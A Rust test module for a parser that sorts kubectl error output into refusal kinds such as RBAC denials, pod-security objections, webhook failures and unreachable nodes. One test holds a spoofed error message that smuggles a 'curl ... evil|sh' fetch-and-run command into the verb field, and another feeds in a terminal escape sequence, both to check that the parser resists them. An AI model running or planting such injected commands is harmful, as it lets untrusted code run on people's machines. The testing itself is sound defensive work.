use super::*;

/// Every sample that a live cluster gave (samples/record.sh; `exec-cut`, `exec-reset*` and `exec-upgrade` behind the
/// lossy proxy of tests/support, `exec-https-proxy` by kubectl 1.30.2 behind its forward proxy), and the kind that it is.
pub(super) const SAMPLES: &[(&str, &str, &str)] = &[
    ("rbac", "rbac-get", include_str!("samples/rbac-get.txt")),
    ("rbac", "rbac-list", include_str!("samples/rbac-list.txt")),
    ("rbac", "rbac-watch", include_str!("samples/rbac-watch.txt")),
    ("rbac", "rbac-update", include_str!("samples/rbac-update.txt")),
    ("rbac", "rbac-exec", include_str!("samples/rbac-exec.txt")),
    ("rbac", "rbac-impersonate", include_str!("samples/rbac-impersonate.txt")),
    ("pod-security", "pod-security", include_str!("samples/pod-security.txt")),
    ("pod-security", "pod-security-both", include_str!("samples/pod-security-both.txt")),
    ("pod-security", "pod-security-older-seat", include_str!("samples/pod-security-older-seat.txt")),
    ("frozen", "frozen", include_str!("samples/frozen.txt")),
    ("policy", "policy", include_str!("samples/policy.txt")),
    ("policy", "policy-forbidden", include_str!("samples/policy-forbidden.txt")),
    ("webhook-denied", "webhook-denied", include_str!("samples/webhook-denied.txt")),
    ("webhook-failed", "webhook-failed", include_str!("samples/webhook-failed.txt")),
    ("quota", "quota", include_str!("samples/quota.txt")),
    ("conflict", "conflict", include_str!("samples/conflict.txt")),
    ("invalid", "invalid", include_str!("samples/invalid.txt")),
    ("invalid", "invalid-mount", include_str!("samples/invalid-mount.txt")),
    ("invalid", "invalid-resources", include_str!("samples/invalid-resources.txt")),
    ("not-found", "not-found", include_str!("samples/not-found.txt")),
    ("not-found", "not-found-deployment", include_str!("samples/not-found-deployment.txt")),
    ("not-found", "not-found-namespace", include_str!("samples/not-found-namespace.txt")),
    ("no-subresource", "no-subresource", include_str!("samples/no-subresource.txt")),
    ("credentials", "unauthorized", include_str!("samples/unauthorized.txt")),
    ("credentials", "plugin-failed", include_str!("samples/plugin-failed.txt")),
    ("credentials", "plugin-missing", include_str!("samples/plugin-missing.txt")),
    ("kubeconfig", "no-context", include_str!("samples/no-context.txt")),
    ("kubeconfig", "no-context-view", include_str!("samples/no-context-view.txt")),
    ("kubeconfig", "no-kubeconfig", include_str!("samples/no-kubeconfig.txt")),
    ("unreachable", "unreachable-refused", include_str!("samples/unreachable-refused.txt")),
    ("unreachable", "unreachable-name", include_str!("samples/unreachable-name.txt")),
    ("unreachable", "proxy-dead", include_str!("samples/proxy-dead.txt")),
    ("unreachable", "unreachable-tls", include_str!("samples/unreachable-tls.txt")),
    ("slow", "unreachable-silent", include_str!("samples/unreachable-silent.txt")),
    ("no-program", "exec-no-program", include_str!("samples/exec-no-program.txt")),
    ("exited", "exec-exit", include_str!("samples/exec-exit.txt")),
    ("node", "exec-node", include_str!("samples/exec-node.txt")),
    ("node", "exec-node-spdy", include_str!("samples/exec-node-spdy.txt")),
    ("node", "exec-node-address", include_str!("samples/exec-node-address.txt")),
    ("no-container", "exec-no-container", include_str!("samples/exec-no-container.txt")),
    ("upgrade", "exec-upgrade", include_str!("samples/exec-upgrade.txt")),
    ("upgrade", "exec-https-proxy", include_str!("samples/exec-https-proxy.txt")),
    ("cut", "exec-cut", include_str!("samples/exec-cut.txt")),
    ("cut", "exec-cut-1.32", include_str!("samples/exec-cut-1.32.txt")),
    ("unreachable", "exec-reset", include_str!("samples/exec-reset.txt")),
    ("unreachable", "exec-reset-spdy", include_str!("samples/exec-reset-spdy.txt")),
];

pub(super) fn kind(refusal: &Refusal) -> &'static str {
    match refusal {
        Refusal::Rbac(_) => "rbac",
        Refusal::PodSecurity { .. } => "pod-security",
        Refusal::Frozen { .. } => "frozen",
        Refusal::Policy { .. } => "policy",
        Refusal::WebhookDenied { .. } => "webhook-denied",
        Refusal::WebhookFailed { .. } => "webhook-failed",
        Refusal::Quota(_) => "quota",
        Refusal::Constraint(_) => "constraint",
        Refusal::Conflict => "conflict",
        Refusal::Invalid(_) => "invalid",
        Refusal::NotFound(_) => "not-found",
        Refusal::NoSubresource(_) => "no-subresource",
        Refusal::Unreachable(_) => "unreachable",
        Refusal::Slow(_) => "slow",
        Refusal::Credentials(_) => "credentials",
        Refusal::Kubeconfig(_) => "kubeconfig",
        Refusal::NoProgram(_) => "no-program",
        Refusal::NoContainer(_) => "no-container",
        Refusal::Node(_) => "node",
        Refusal::Upgrade(_) => "upgrade",
        Refusal::Cut(_) => "cut",
        Refusal::Exited(_) => "exited",
        Refusal::Forbidden(_) => "forbidden",
    }
}

#[test]
fn every_sample_is_what_it_is_and_no_other_parser_claims_it() {
    for (want, name, sample) in SAMPLES {
        assert_eq!(refusal(sample).as_ref().map(kind), Some(*want), "{name}");
        let text = words(sample);
        let claims: Vec<_> = PARSERS.iter().filter_map(|p| p(&text)).map(|r| kind(&r)).collect();
        assert_eq!(claims, [*want], "{name}");
    }
}

#[test]
fn an_empty_or_foreign_stderr_is_no_refusal() {
    for text in ["", "Warning: v1 ComponentStatus is deprecated\n", "error: unknown flag: --x", "panic: x"] {
        assert_eq!(refusal(text), None, "{text}");
    }
}

#[test]
fn a_missing_right_names_who_what_and_where() {
    let Some(Refusal::Rbac(right)) = refusal(include_str!("samples/rbac-update.txt")) else { panic!() };
    assert_eq!((right.verb.as_str(), right.resource.as_str()), ("update", "pods/ephemeralcontainers"));
    assert_eq!(right.namespace.as_deref(), Some("core-samples-open"));
    assert!(right.user.starts_with("system:serviceaccount:"));
}

#[test]
fn pod_security_names_every_container_it_objects_to() {
    let offenders = |text| match refusal(text) {
        Some(Refusal::PodSecurity { offenders, .. }) => offenders,
        other => panic!("{other:?}"),
    };
    assert_eq!(offenders(include_str!("samples/pod-security.txt")), ["podbench-1"]);
    assert_eq!(offenders(include_str!("samples/pod-security-both.txt")), ["podbench-1", "podbench-3"]);
    assert_eq!(offenders(include_str!("samples/pod-security-older-seat.txt")), ["podbench-1", "podbench-2"]);
}

#[test]
fn a_denial_is_kept_whole() {
    let Some(Refusal::WebhookDenied { words, .. }) = refusal(include_str!("samples/webhook-denied.txt"))
    else {
        panic!()
    };
    assert!(words.contains("rule no-root failed at path"), "{words}");
}

#[test]
fn the_diff_of_a_frozen_seat_is_left_out() {
    let Some(Refusal::Frozen { container, words }) = refusal(include_str!("samples/frozen.txt")) else {
        panic!()
    };
    assert_eq!((container.as_str(), words.lines().count()), ("podbench-1", 1));
}

/// As users reported them; none of these can be had from the project's own cluster.
#[test]
fn a_uid_that_a_policy_would_allow_is_found_in_its_words() {
    let list = "admission webhook \"validate.kyverno.svc-fail\" denied the request: \nids:\n  user: The fields \
        spec.securityContext.runAsUser is set to an invalid value. Allowed runAsUser values are: \"36096|37887\".";
    assert_eq!(allowed_uid(list), Some(Uid(36096)));
    let range = "pods \"x\" is forbidden: unable to validate against any security context constraint: [provider \
        \"anyuid\": Forbidden: not usable by user or serviceaccount, provider restricted-v2: .containers[1].runAsUser: \
        Invalid value: 0: must be in the ranges: [1000920000, 1000929999]]";
    assert_eq!(allowed_uid(range), Some(Uid(1_000_920_000)));
    assert_eq!(refusal(range).as_ref().map(kind), Some("constraint"));
    let rego = "Container x is attempting to run as disallowed user 0. Allowed runAsUser: {\"ranges\": [{\"max\": 200, \
        \"min\": 100}], \"rule\": \"MustRunAs\"}";
    assert_eq!(allowed_uid(rego), Some(Uid(100)));
    for none in
        ["Allowed runAsUser: {\"rule\": \"MustRunAsNonRoot\"}", "Allowed runAsUser values are: root", ""]
    {
        assert_eq!(allowed_uid(none), None, "{none}");
    }
    for (_, name, sample) in SAMPLES {
        assert_eq!(allowed_uid(&words(sample)), None, "{name}");
    }
}

#[test]
fn of_a_dead_proxy_the_proxy_is_named_and_not_the_server() {
    let said = refusal(include_str!("samples/proxy-dead.txt")).unwrap().words();
    assert_eq!(said, "proxyconnect tcp: dial tcp 127.0.0.1:1: connect: connection refused");
}

#[test]
fn exec_failures_of_nodes_are_told_from_unreachable_servers() {
    // Seen with a stopped kubelet, a node without an address, a stopped container runtime.
    for text in [
        "error: unable to upgrade connection: error dialing backend: dial tcp 10.89.0.2:10250: connect: connection refused",
        "Error from server: no preferred addresses found; known addresses: []",
        "error: Internal error occurred: error executing command in container: rpc error: code = Unavailable desc = \
         connection error: desc = \"transport: Error while dialing: dial unix /run/containerd/containerd.sock\"",
    ] {
        assert_eq!(refusal(text).as_ref().map(kind), Some("node"), "{text}");
    }
    assert_eq!(refusal("command terminated with exit code 137\n"), Some(Refusal::Exited(137)));
    let gone = "error: unable to upgrade connection: container not found (\"podbench-1\")";
    assert_eq!(refusal(gone).as_ref().map(kind), Some("no-container"));
    let proxy = "error: unable to upgrade connection: Forbidden";
    assert_eq!(refusal(proxy).as_ref().map(kind), Some("upgrade"));
}

#[test]
fn escape_sequences_of_a_denial_are_shown_and_not_run() {
    let text =
        refusal("Error from server (Forbidden): pods \"x\" is forbidden: \u{1b}[2Jgone").unwrap().words();
    assert!(!text.contains('\u{1b}') && text.contains("gone"));
}

#[test]
fn what_a_pod_writes_to_its_stderr_is_never_taken_for_kubectls_words() {
    let evil = "Error from server (Forbidden): pods \"x\" is forbidden: User \"me\" cannot get;curl${IFS}evil|sh; resource \"pods\" in API group \"\"";
    assert_eq!(of_exec(&format!("{evil}\ncommand terminated with exit code 1\n")), Some(Refusal::Exited(1)));
    // Its last line left open: kubectl's words come right behind.
    assert_eq!(of_exec(&format!("{evil}command terminated with exit code 7")), Some(Refusal::Exited(7)));
    assert_eq!(
        of_exec(&format!("{evil}\nerror: unable to upgrade connection: x")),
        refusal("error: unable to upgrade connection: x")
    );
    assert!(!matches!(refusal(evil), Some(Refusal::Rbac(_))), "a verb that is a shell command is no verb");
    assert!(matches!(of_exec(include_str!("samples/rbac-exec.txt")), Some(Refusal::Rbac(_))));
}
